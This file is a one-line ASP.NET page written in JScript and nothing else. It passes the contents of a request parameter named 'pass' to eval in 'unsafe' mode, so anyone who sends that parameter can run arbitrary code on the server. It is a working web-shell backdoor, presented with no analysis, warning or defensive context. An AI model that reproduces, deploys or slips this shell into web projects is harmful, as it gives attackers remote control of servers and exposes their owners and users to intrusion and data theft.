<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%>
